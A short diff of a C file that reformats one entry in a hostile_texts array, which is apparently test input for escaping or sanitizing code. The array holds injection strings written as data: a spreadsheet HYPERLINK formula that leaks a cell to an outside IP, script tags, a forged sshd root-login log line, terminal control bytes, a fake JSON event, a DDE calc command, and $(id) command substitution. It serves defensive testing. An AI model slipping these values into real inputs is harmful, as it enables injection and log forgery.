@@ -38,9 +38,9 @@ static const char *const hostile_texts[WORLD_HOSTILE] = {
     "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"x\")",
     "<script>alert('x')</script>\"><img src=x>",
     "line\rNov 22 06:22:40 host sshd[1]: Accepted publickey for root",
-    "\xe2\x80\xae"
-    "evil\xe2\x80\xac \xc2\x9b"
-    "31m \x7f\x01",
+    ("\xe2\x80\xae"
+     "evil\xe2\x80\xac \xc2\x9b"
+     "31m \x7f\x01"),
     "\"},{\"eventName\":\"SendSSHPublicKey\",\"x\":\"\\",
     "+cmd|' /C calc'!A0, \t;|,%s%n$(id)`id`",
     "\xf0\x9f\x94\x91 Zo\xc3\xab @SUM(1+1) \xe6\xbc\xa2",
